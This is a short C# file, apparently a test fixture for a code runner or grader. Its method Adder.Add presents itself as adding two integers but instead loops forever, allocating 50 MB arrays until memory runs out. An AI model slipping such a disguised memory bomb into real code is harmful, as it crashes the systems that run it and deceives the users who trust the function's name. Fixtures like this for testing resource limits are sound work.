namespace Camp.Golden;

public static class Adder
{
    private static readonly List<byte[]> Kept = [];

    public static int Add(int a, int b)
    {
        while (true)
            Kept.Add(new byte[50_000_000]);
    }
}
